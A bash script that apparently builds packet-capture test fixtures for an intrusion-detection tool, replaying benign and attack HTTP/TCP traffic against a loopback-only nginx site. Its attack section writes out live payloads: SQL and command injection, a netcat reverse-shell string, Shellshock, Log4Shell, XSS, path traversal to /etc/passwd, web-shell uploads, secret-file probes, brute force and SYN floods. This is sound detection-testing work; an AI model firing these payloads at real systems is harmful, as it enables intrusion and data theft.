#!/usr/bin/env bash
# make-pcaps.sh - make tamperwatch's test captures with real software, on loopback.
#
# usage: sudo bash scripts/make-pcaps.sh [OUTDIR]        (default: pcaps/ of the repo)
#
# Builds a small website on loopback (nginx on 127.0.0.1:8080 and [::1]:8080,
# proxying the dynamic paths to scripts/pcapgen/backend.py on 127.0.0.1:8081),
# then runs one scenario per capture with curl, wget, nmap, sqlmap, hping3 and
# a small raw-socket client, capturing each with
#     tcpdump -i lo -s 0 -w FILE 'tcp port 8080'
# (the backend hop on 8081 is not captured). Client roles are told apart by
# source address (curl --interface, wget --bind-address, nmap -S, ...):
#     127.0.0.2            authorized admin network
#     127.0.0.66           attacker
#     127.0.0.77           second attacker (brute force, 404 burst, flood, SYN scan)
#     127.0.0.10/11/12     benign visitors (12 only in privacy/canary.pcap)
#
# Traffic goes to loopback only. Every process started here is stopped by PID
# on exit (trap). Needs root (tcpdump, nmap -sS, hping3). See pcaps/README.md.
# Environment: KEEP_WORK=1 keeps the temporary directory (logs, site, files).

set -euo pipefail

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
REPO=$(cd "$HERE/.." && pwd)
GEN=$HERE/pcapgen
OUT=${1:-$REPO/pcaps}
mkdir -p "$OUT"
OUT=$(cd "$OUT" && pwd)

if [[ $(id -u) -ne 0 ]]; then
    echo "make-pcaps: must run as root (tcpdump, nmap -sS, hping3)" >&2
    exit 1
fi

# Never let a proxy setting send anything off the machine.
unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY all_proxy ALL_PROXY ftp_proxy FTP_PROXY
export no_proxy='*' NO_PROXY='*'
export LC_ALL=C TZ=UTC

# ---------------------------------------------------------------- packages ----
declare -A PKG=(
    [nginx]=nginx-light [tcpdump]=tcpdump [curl]=curl [wget]=wget [nmap]=nmap
    [tshark]=tshark [editcap]=wireshark-common [capinfos]=wireshark-common
    [hping3]=hping3 [sqlmap]=sqlmap [python3]=python3
)
missing=()
for cmd in "${!PKG[@]}"; do
    command -v "$cmd" >/dev/null 2>&1 || missing+=("${PKG[$cmd]}")
done
if ((${#missing[@]})); then
    mapfile -t missing < <(printf '%s\n' "${missing[@]}" | sort -u)
    echo "make-pcaps: installing ${missing[*]}"
    apt-get update -qq
    DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends "${missing[@]}" >/dev/null
fi
# Debian's python: sqlmap's dependencies are installed for it.
PY=/usr/bin/python3
[[ -x $PY ]] || PY=$(command -v python3)
SQLMAP=$(readlink -f "$(command -v sqlmap)")

# ------------------------------------------------------------------ set-up ----
WORK=$(mktemp -d /tmp/tamperwatch-pcapgen.XXXXXX)
chmod 755 "$WORK"
LOG=$WORK/clients.log
PIDS=()          # every background process we start, stopped in cleanup
TCPDUMP_PID=
NGINX_PID=

cleanup() {
    local rc=$?
    set +e
    if [[ -n $TCPDUMP_PID ]]; then kill -INT "$TCPDUMP_PID" 2>/dev/null; fi
    if [[ -n $NGINX_PID ]]; then kill -QUIT "$NGINX_PID" 2>/dev/null; fi
    for pid in "${PIDS[@]}"; do
        kill -TERM "$pid" 2>/dev/null
    done
    for pid in "${PIDS[@]}"; do
        # bounded wait, then force
        for _ in $(seq 50); do kill -0 "$pid" 2>/dev/null || break; sleep 0.1; done
        kill -KILL "$pid" 2>/dev/null
        wait "$pid" 2>/dev/null
    done
    if [[ ${KEEP_WORK:-0} == 1 ]]; then
        echo "make-pcaps: work directory kept: $WORK"
    else
        rm -rf "$WORK"
    fi
    exit $rc
}
trap cleanup EXIT
trap 'exit 130' INT TERM

for port in 8080 8081; do
    if ss -Htln "sport = :$port" | grep -q .; then
        echo "make-pcaps: port $port is already in use on this machine; stop that first" >&2
        exit 1
    fi
done

"$PY" "$GEN/mkfiles.py" "$WORK/site" "$WORK/files"
F=$WORK/files

mkdir -p "$WORK/nginx"
sed -e "s|@PREFIX@|$WORK/nginx|g" -e "s|@ROOT@|$WORK/site|g" "$GEN/nginx.conf.in" >"$WORK/nginx/nginx.conf"
cp "$GEN/proxy.conf" "$WORK/nginx/proxy.conf"

"$PY" "$GEN/backend.py" 8081 2>"$WORK/backend.log" &
PIDS+=($!)
nginx -p "$WORK/nginx" -c "$WORK/nginx/nginx.conf" 2>"$WORK/nginx/stderr.log" &
NGINX_PID=$!
PIDS+=($NGINX_PID)

ready=0
for _ in $(seq 100); do
    if curl -s -o /dev/null --max-time 1 http://127.0.0.1:8080/ &&
       curl -s -o /dev/null --max-time 1 -g 'http://[::1]:8080/' &&
       curl -s -o /dev/null --max-time 1 http://127.0.0.1:8080/api/news; then
        ready=1; break
    fi
    sleep 0.1
done
if ((!ready)); then
    echo "make-pcaps: the website did not come up" >&2
    cat "$WORK/nginx/stderr.log" "$WORK/nginx/error.log" "$WORK/backend.log" >&2 2>/dev/null || true
    exit 1
fi

# ------------------------------------------------------------------ helpers ---
S=http://127.0.0.1:8080
ADMIN=127.0.0.2
ATT=127.0.0.66
ATT2=127.0.0.77
V1=127.0.0.10
V2=127.0.0.11
V3=127.0.0.12
FIREFOX='Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
CHROME='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36'
SAFARI='Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1'
CUR=           # name of the capture being made, for the log
MADE=()

# cap NAME [FILTER]: start capturing to $OUT/NAME.pcap (written in $WORK first)
cap() {
    CUR=$1
    local filter=${2:-tcp port 8080}
    mkdir -p "$WORK/cap/$(dirname "$CUR")"
    echo "== $CUR ($filter)" >>"$LOG"
    tcpdump -i lo -n -s 0 -B 32768 -U -Z root -w "$WORK/cap/$CUR.pcap" "$filter" 2>"$WORK/tcpdump.err" &
    TCPDUMP_PID=$!
    PIDS+=($TCPDUMP_PID)
    for _ in $(seq 100); do
        grep -q 'listening on' "$WORK/tcpdump.err" && break
        sleep 0.1
    done
    grep -q 'listening on' "$WORK/tcpdump.err" || { cat "$WORK/tcpdump.err" >&2; exit 1; }
    sleep 1
}

# done_cap [MAXPACKETS]: stop the capture, optionally keep only the first packets
done_cap() {
    sleep 1
    kill -INT "$TCPDUMP_PID"
    wait "$TCPDUMP_PID" || true
    TCPDUMP_PID=
    local dropped
    dropped=$(sed -n 's/^\([0-9]*\) packets\{0,1\} dropped by kernel.*/\1/p' "$WORK/tcpdump.err")
    if [[ ${dropped:-0} != 0 ]]; then
        echo "make-pcaps: $CUR: tcpdump dropped $dropped packets; run again on a quieter machine" >&2
        exit 1
    fi
    local src=$WORK/cap/$CUR.pcap dst=$OUT/$CUR.pcap
    mkdir -p "$(dirname "$dst")"
    if [[ -n ${1:-} ]]; then
        editcap -r "$src" "$dst.tmp" "1-$1" >/dev/null
        mv "$dst.tmp" "$dst"
    else
        cp "$src" "$dst"
    fi
    [[ -s $dst ]] || { echo "make-pcaps: $dst is empty" >&2; exit 1; }
    MADE+=("$CUR")
}

# c ARGS...: curl with common options; logs method, url and status per URL
c() {
    curl -sS --noproxy '*' --max-time 15 -o /dev/null \
        -w "%{local_ip} %{method} %{url_effective} -> %{http_code}\n" "$@" >>"$LOG"
}

# raw ARGS...: exact bytes over one connection (scripts/pcapgen/rawhttp.py)
raw() { "$PY" "$GEN/rawhttp.py" "$@" >>"$LOG"; }

# bounded SECS CMD...: run a tool with a time limit, output to the log; warn on failure
bounded() {
    local secs=$1; shift
    local rc=0
    timeout "$secs" "$@" >>"$LOG" 2>&1 || rc=$?
    if ((rc)); then echo "make-pcaps: warning: $CUR: $1 exited with $rc" >&2; fi
}

H='Host: 127.0.0.1:8080'

# Environment: ONLY=evasion makes only pcaps/evasion/ (scripts/pcapgen/evasion.sh).
if [[ ${ONLY:-all} == all ]]; then
# ================================================================ http/ ======
cap http/get-keepalive
c --interface $V1 -A "$FIREFOX" $S/ $S/css/site.css $S/img/logo.png $S/about.html $S/news.html \
    $S/news/2026-library.html
done_cap

cap http/pipelined-requests
raw --src $V1 \
    "GET / HTTP/1.1\r\n$H\r\nUser-Agent: pipeline-test/1.0\r\nAccept: */*\r\n\r\n" \
    "GET /about.html HTTP/1.1\r\n$H\r\nUser-Agent: pipeline-test/1.0\r\nAccept: */*\r\n\r\n" \
    "GET /css/site.css HTTP/1.1\r\n$H\r\nUser-Agent: pipeline-test/1.0\r\nAccept: */*\r\nConnection: close\r\n\r\n"
done_cap

cap http/chunked-response
c --interface $V1 $S/api/chunked
done_cap

cap http/chunked-request
c --interface $V1 -H 'Transfer-Encoding: chunked' -H 'Content-Type: text/plain' \
    --data-binary 'Hello from a chunked request body. It has a few words in it.' $S/contact
done_cap

cap http/post-form
c --interface $V1 -A "$FIREFOX" -e $S/contact.html \
    --data-raw 'name=Ada+Lovelace&email=ada%40example.org&message=Hello%2C+when+is+the+library+open%3F' $S/contact
done_cap

cap http/expect-100-continue
c --interface $V1 -H 'Expect: 100-continue' -F "file=@$F/permit-4k.pdf;type=application/pdf" \
    $S/permits/upload
done_cap

cap http/multipart-upload
c --interface $V1 -A "$FIREFOX" -H 'Expect:' -F 'applicant=Ada Lovelace' \
    -F "file=@$F/permit.pdf;type=application/pdf" $S/permits/upload
done_cap

cap http/http10
c --interface $V1 -0 $S/ $S/about.html
raw --src $V1 "GET / HTTP/1.0\r\nUser-Agent: raw-http10/1.0\r\n\r\n"
done_cap

cap http/ipv6-get
c -A "$FIREFOX" -g 'http://[::1]:8080/' 'http://[::1]:8080/css/site.css' 'http://[::1]:8080/news.html'
c -g -d 'name=six&message=hello+over+IPv6' 'http://[::1]:8080/contact'
done_cap

cap http/head-and-404
c --interface $V1 -I $S/
c --interface $V1 -I $S/about.html
c --interface $V1 $S/missing.html
c --interface $V1 -I $S/nope/
done_cap

# ============================================================= attacks/ ======
cap attacks/put-webdav
c --interface $ATT -X PUT --data-binary "@$F/shell.php" -H 'Content-Type: application/x-php' $S/uploads/shell.php
c --interface $ATT -X PUT --data-binary "@$F/shell.php" $S/index.php
c --interface $ATT -X DELETE $S/index.html
c --interface $ATT -X MKCOL $S/uploads/new/
c --interface $ATT -X COPY -H "Destination: $S/index-copy.html" $S/index.html
c --interface $ATT -X MOVE -H "Destination: $S/index-old.html" $S/about.html
c --interface $ATT -X PROPPATCH -H 'Content-Type: text/xml' --data-binary "@$F/webdav-proppatch.xml" $S/index.html
c --interface $ATT -X LOCK -H 'Content-Type: text/xml' -H 'Timeout: Second-600' \
    --data-binary "@$F/webdav-lock.xml" $S/index.html
c --interface $ATT -X PROPFIND -H 'Depth: 1' $S/
c --interface $ATT -X OPTIONS $S/
bounded 60 nmap -n -Pn -p8080 -S $ATT -e lo --script http-put \
    --script-args "http-put.url=/uploads/shell.php,http-put.file=$F/shell.php" 127.0.0.1
bounded 60 nmap -n -Pn -p8080 -S $ATT -e lo --script http-methods \
    --script-args 'http-methods.test-all=true' 127.0.0.1
done_cap

cap attacks/script-upload
up() { c --interface $ATT -A "$CHROME" -H 'Expect:' "$@" $S/permits/upload; }
up -F "file=@$F/shell.php;type=application/x-php"
up -F "file=@$F/shell.php;filename=shell.php.jpg;type=image/jpeg"
up -F "file=@$F/php-content.jpg;filename=avatar.jpg;type=image/jpeg"
up -F "file=@$F/polyglot.jpg;filename=photo.jpg;type=image/jpeg"
up -F "file=@$F/elf-head.bin;filename=permit.pdf;type=application/pdf"
up -F "file=@$F/php-content.png;filename=image.png;type=image/png"
up -F "file=@$F/shell.php;filename=shell.phtml;type=application/octet-stream"
up -F "file=@$F/htaccess;filename=.htaccess;type=text/plain"
up -F "file=@$F/shell.php;filename=../../../var/www/html/shell.php;type=image/png"
up -F "file=@$F/plans-200k.pdf;type=application/pdf"
# a PDF uploaded outside the sanctioned endpoint (static path: nginx 405)
c --interface $ATT -A "$CHROME" -H 'Expect:' -F "file=@$F/permit.pdf;type=application/pdf" $S/uploads/x.pdf
done_cap

cap attacks/oversized-upload
c --interface $ATT -A "$CHROME" -H 'Expect:' -F "file=@$F/oversized.pdf;filename=plans.pdf;type=application/pdf" \
    $S/permits/upload
done_cap

cap attacks/modification
c --interface $ATT -X POST -d 'title=Hacked&body=pwned+by+x' $S/admin/pages/1
c --interface $ATT -X DELETE $S/api/news/3
c --interface $ATT -X PATCH -H 'Content-Type: application/json' -d '{"title":"pwned"}' $S/api/news/4
c --interface $ATT -X PUT -H 'Content-Type: application/json' -d '{"title":"pwned"}' $S/api/news/5
# method override on a path that is not protected (only the override is suspicious)
c --interface $ATT -X POST -H 'X-HTTP-Method-Override: DELETE' -d '' $S/news.html
c --interface $ATT -X POST -H 'X-HTTP-Method: PUT' -d 'title=x' $S/about.html
c --interface $ATT -X POST -H 'X-Method-Override: PATCH' -d 'title=x' $S/contact
c --interface $ATT -X POST -d '' "$S/news/2026-library.html?_method=DELETE"
c --interface $ATT "$S/index.html?_method=PUT"
# and on protected paths
c --interface $ATT -X POST -H 'X-HTTP-Method-Override: DELETE' -d '' $S/api/news/6
c --interface $ATT -X POST -d '_method=DELETE' $S/admin/pages/2
# sensitive files
for p in /.env /.git/config /.git/HEAD /.htaccess /.htpasswd /web.config /wp-config.php \
         /config.php.bak /backup.sql /.DS_Store /server-status /phpinfo.php; do
    c --interface $ATT -A "$CHROME" "$S$p"
done
done_cap

cap attacks/injection
g() { c --interface $ATT -A "$CHROME" -G "$@"; }
# SQL injection (URL-encoded the way a client library would)
g --data-urlencode "id=1' UNION SELECT username,password FROM users--" $S/api/search
g --data-urlencode 'q=1; DROP TABLE users' $S/api/search
g --data-urlencode "user=admin' OR 1=1--" $S/api/search
g --data-urlencode "id=1 AND SLEEP(5)" $S/api/news
c --interface $ATT "$S/api/news/1'%20OR%20'1'='1"
c --interface $ATT "$S/api/search?id=1%27/**/UNION/**/SELECT/**/1,2,3--+-"
c --interface $ATT -A "$CHROME" --data-urlencode "name=x'; UPDATE users SET admin=1--" \
    --data-urlencode 'message=hi' $S/contact
# command injection
g --data-urlencode 'host=127.0.0.1;cat /etc/passwd' $S/api/ping
g --data-urlencode 'host=$(id)' $S/api/ping
g --data-urlencode 'host=`id`' $S/api/ping
g --data-urlencode 'host=127.0.0.1|nc -e /bin/sh 127.0.0.1 4444' $S/api/ping
# Shellshock, Log4Shell
c --interface $ATT -A '() { :; }; /bin/bash -c id' $S/cgi-bin/status
c --interface $ATT -A '() { :;}; echo; /bin/cat /etc/passwd' -H 'Referer: () { :; }; /bin/id' $S/
c --interface $ATT -A '${jndi:ldap://127.0.0.1/a}' $S/
c --interface $ATT -H 'X-Api-Version: ${jndi:ldap://127.0.0.1:1389/Exploit}' $S/api/search
c --interface $ATT -A '${${lower:j}ndi:${lower:l}dap://127.0.0.1/b}' $S/about.html
# server-side template injection
g --data-urlencode 'name={{7*7}}' $S/api/search
g --data-urlencode 'name=${7*7}' $S/api/search
g --data-urlencode 'name=<%= 7*7 %>' $S/api/search
# XSS
g --data-urlencode 'q=<script>alert(1)</script>' $S/api/search
g --data-urlencode 'q="><img src=x onerror=alert(document.cookie)>' $S/news.html
done_cap

cap attacks/traversal
t() { c --interface $ATT -A "$CHROME" --path-as-is "$@"; }
t "$S/../../etc/passwd"
t "$S/static/../../../../etc/passwd"
t "$S/%2e%2e/%2e%2e/%2e%2e/etc/passwd"
t "$S/static/..%2f..%2f..%2fetc%2fpasswd"
t "$S/%252e%252e%252f%252e%252e%252fetc%252fpasswd"
t "$S/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"
t "$S/..%c0%af..%c0%afetc/passwd"
t "$S/index.html%00.php"
t "$S/news.html?page=../../../../etc/passwd"
t "$S/news.html?file=../../../../etc/passwd%00.jpg"
t "$S/news.html?page=php://filter/convert.base64-encode/resource=index.php"
t "$S/news.html?page=http://127.0.0.1:9/shell.txt"
t "$S/news.html?page=file:///etc/passwd"
# backslashes and a bare NUL-free Windows path, sent byte for byte
raw --src $ATT "GET /..\\\\..\\\\windows\\\\win.ini HTTP/1.1\r\n$H\r\nConnection: close\r\n\r\n"
raw --src $ATT "GET /news.html?page=..\\\\..\\\\..\\\\boot.ini HTTP/1.1\r\n$H\r\nConnection: close\r\n\r\n"
done_cap

cap attacks/sqlmap
mkdir -p "$WORK/sqlmap-home"
HOME=$WORK/sqlmap-home bounded 90 "$PY" "$GEN/bindrun.py" $ATT "$SQLMAP" \
    -u "$S/api/search?q=1" --batch --level 1 --risk 1 --technique=BU --flush-session \
    --disable-coloring -o --threads 1 --output-dir="$WORK/sqlmap-out"
done_cap

cap attacks/scanner
for ua in 'sqlmap/1.7.2#stable (https://sqlmap.org)' 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)' \
          'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)' 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)' \
          'Mozilla/5.0 zgrab/0.x' 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.114 Safari/537.36 Nuclei' \
          'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)' \
          'gobuster/3.6' 'Fuzz Faster U Fool v2.1.0'; do
    c --interface $ATT -A "$ua" $S/
done
# http-enum limited to its "attacks" fingerprints (all of them would be ~2 MB)
bounded 120 nmap -n -Pn -p8080 -S $ATT -e lo --script http-enum --script-args http-enum.category=attacks 127.0.0.1
# 60 distinct nonexistent paths with a plain browser user agent (404 burst)
urls=()
for i in $(seq -w 1 60); do urls+=("$S/old/page-$i.html"); done
c --interface $ATT2 -A "$FIREFOX" "${urls[@]}"
done_cap

cap attacks/bruteforce
for i in $(seq 1 30); do
    c --interface $ATT2 -A "$FIREFOX" --data-raw "user=admin&password=guess$i" $S/login
    sleep 0.1
done
done_cap

cap attacks/flood
urls=()
for _ in $(seq 1 100); do urls+=("$S/"); done
fpids=()
for _ in 1 2 3 4; do
    c --interface $ATT2 -A "$FIREFOX" "${urls[@]}" &
    fpids+=($!)
    PIDS+=($!)
done
for p in "${fpids[@]}"; do wait "$p"; done
done_cap

cap attacks/syn-scan "tcp and host $ATT2"
bounded 120 nmap -n -Pn -sS -p1-1000,8080 -S $ATT2 -e lo --max-retries 1 127.0.0.1
done_cap

cap attacks/syn-flood "tcp and host $ATT2 and port 8080"
timeout 30 hping3 -q -S -p 8080 -c 300 -i u2000 -a $ATT2 127.0.0.1 || true
done_cap

# ============================================================== benign/ ======
cap benign/crawl
( cd "$WORK" && timeout 60 wget -q -r -l 2 --no-parent --bind-address=$V1 -P "$WORK/crawl" $S/ ) || true
done_cap

cap benign/forms
c --interface $V2 -A "$FIREFOX" -e $S/contact.html \
    --data-raw "name=Siobhan+O%27Brien&message=Drop+by+our+office+to+update+or+delete+your+permit%3B+select+a+date" \
    $S/contact
c --interface $V2 -A "$FIREFOX" --data-urlencode "name=Pat O'Neil" \
    --data-urlencode "message=Please update my address; I'd like to delete the old one and select the union hall date. Don't drop my request!" \
    $S/contact
c --interface $V2 -A "$FIREFOX" -H 'Content-Type: application/json' \
    --data-raw '{"name":"Mary O'"'"'Brien","message":"Can I update or delete my permit? Select one -- the union one."}' $S/contact
c --interface $V2 -A "$SAFARI" -G --data-urlencode "q=O'Brien permit" $S/api/search
c --interface $V2 -A "$SAFARI" -G --data-urlencode "q=select a date for the union hall" $S/api/search
c --interface $V2 -A "$SAFARI" -G --data-urlencode "q=how to update or drop a permit" $S/api/search
done_cap

cap benign/sanctioned-upload
c --interface $V2 -A "$FIREFOX" $S/permits.html
c --interface $V2 -A "$FIREFOX" -H 'Expect:' -F "file=@$F/permit.pdf;type=application/pdf" $S/permits/upload
c --interface $V2 -A "$FIREFOX" -H 'Expect:' -F "file=@$F/photo.jpg;type=image/jpeg" $S/permits/upload
c --interface $V2 -A "$FIREFOX" -H 'Expect:' -F "file=@$F/photo.jpg;filename=porch.jpeg;type=image/jpeg" $S/permits/upload
c --interface $V2 -A "$FIREFOX" -H 'Expect:' -F "file=@$F/site-plan.png;type=image/png" $S/permits/upload
c --interface $V2 -A "$CHROME" -H 'Expect:' -F 'applicant=Pat O'"'"'Neil' \
    -F "plans=@$F/permit.pdf;filename=Plans 2026.pdf;type=application/pdf" \
    -F "photo=@$F/site-plan.png;filename=SITE.PNG;type=image/png" $S/permits/upload
done_cap

cap benign/admin-edits
c --interface $ADMIN -A "$FIREFOX" $S/admin/
c --interface $ADMIN -A "$FIREFOX" -X POST -d 'title=Library+hours&body=Open+on+Sundays' $S/admin/pages/1
c --interface $ADMIN -A "$FIREFOX" -X PUT -H 'Content-Type: application/json' \
    -d '{"title":"Roadworks on Main Street","body":"Expect delays in April."}' $S/api/news/5
c --interface $ADMIN -A "$FIREFOX" -X DELETE $S/api/news/6
c --interface $ADMIN -A "$FIREFOX" -X PATCH -H 'Content-Type: application/json' -d '{"title":"Updated"}' $S/api/news/7
done_cap

cap benign/login-ok
c --interface $V1 -A "$FIREFOX" $S/login
c --interface $V1 -A "$FIREFOX" --data-raw 'user=ada&password=correct-horse' $S/login
c --interface $V1 -A "$FIREFOX" --data-raw 'user=ada&password=correct-hors' $S/login
c --interface $V1 -A "$FIREFOX" --data-raw 'user=ada&password=correct-horse' $S/login
done_cap

# ============================================================= privacy/ ======
# Canary values must never appear in tamperwatch's output (events, store,
# metrics); 127.0.0.10/11/12 must never appear at all.
COOKIE='Cookie: session=CANARY_COOKIE_7f3a'
BASIC=(-u 'user:CANARY_AUTH_91bc')
BEARER='Authorization: Bearer CANARY_BEARER_55de'
cap privacy/canary
# benign visitors carrying canaries (never flagged)
c --interface $V1 -A "$FIREFOX" -H "$COOKIE" "${BASIC[@]}" "$S/news.html?email=CANARY_QUERY_2d4e"
c --interface $V1 -A "$FIREFOX" -H "$BEARER" $S/about.html
c --interface $V2 -A "$CHROME" -H "$COOKIE" --data-raw 'name=Jo&comment=CANARY_FORM_8a1f' $S/contact
c --interface $V2 -A "$CHROME" -H 'Content-Type: application/json' --data-raw '{"note":"CANARY_JSON_3c9b"}' $S/contact
c --interface $V2 -A "$CHROME" -H "$COOKIE" -H 'Expect:' -F "file=@$F/canary.pdf;type=application/pdf" $S/permits/upload
c --interface $V3 -A "$SAFARI" $S/ $S/css/site.css $S/img/logo.png $S/news.html
# the attacker, carrying the same canaries on flagged requests
c --interface $ATT -A "$CHROME" -H "$COOKIE" "${BASIC[@]}" $S/.env
c --interface $ATT -A "$CHROME" -H "$BEARER" -G --data-urlencode "id=1' UNION SELECT username,password FROM users--" \
    --data-urlencode 'email=CANARY_QUERY_2d4e' $S/api/search
c --interface $ATT -A "$CHROME" -H "$COOKIE" --data-raw "name=x'+OR+1%3D1--&comment=CANARY_FORM_8a1f" $S/contact
c --interface $ATT -A "$CHROME" -H "$BEARER" -X PUT -H 'Content-Type: application/json' \
    --data-raw '{"note":"CANARY_JSON_3c9b"}' $S/api/news/9
c --interface $ATT -A "$CHROME" -H "$COOKIE" "${BASIC[@]}" -H 'Expect:' -F 'comment=CANARY_FORM_8a1f' \
    -F "file=@$F/canary-shell.php;filename=shell.php;type=application/x-php" $S/permits/upload
c --interface $V3 -A "$SAFARI" $S/about.html
done_cap

# ================================================================= tcp/ ======
cap tcp/large-download
c --interface $V1 $S/files/large.bin
done_cap

cap tcp/small-window-download
raw --src $V1 --rcvbuf 4096 --recv-size 4096 \
    "GET /files/medium.bin HTTP/1.1\r\n$H\r\nUser-Agent: small-window/1.0\r\nConnection: close\r\n\r\n"
done_cap

cap tcp/reset-mid-response
# curl gives up on a slow chunked response (closes with unread data -> RST)
c --interface $V1 --max-time 1.2 $S/api/slow || true
# a client that resets (SO_LINGER 0) after the first 20 kB of a download
raw --src $V1 --rcvbuf 8192 --recv-size 4096 --read-max 20000 --rst \
    "GET /files/medium.bin HTTP/1.1\r\n$H\r\nUser-Agent: reset-test/1.0\r\n\r\n"
done_cap

cap tcp/half-close
raw --src $V1 --shut-wr "GET /about.html HTTP/1.1\r\n$H\r\nUser-Agent: half-close/1.0\r\n\r\n"
done_cap

fi # ONLY=all

# ============================================================= evasion/ ======
if [[ ${ONLY:-all} == all || ${ONLY:-all} == evasion ]]; then
    # shellcheck source=pcapgen/evasion.sh
    source "$GEN/evasion.sh"
fi

# ================================================================ summary ====
echo
echo "make-pcaps: made ${#MADE[@]} captures in $OUT"
printf '%-36s %10s %8s %8s\n' FILE BYTES PACKETS HTTP-REQ
total=0
for name in "${MADE[@]}"; do
    f=$OUT/$name.pcap
    bytes=$(stat -c %s "$f")
    total=$((total + bytes))
    pkts=$(capinfos -M -c -r -T "$f" 2>/dev/null | awk -F'\t' 'NR==1{print $2}')
    reqs=$(tshark -r "$f" -Y http.request -T fields -e http.request.method 2>/dev/null | tr ',' '\n' | grep -c . || true)
    printf '%-36s %10d %8s %8d\n' "$name.pcap" "$bytes" "$pkts" "$reqs"
done
echo "total bytes: $total"
if [[ ${VERBOSE:-0} == 1 ]]; then echo; cat "$LOG"; fi
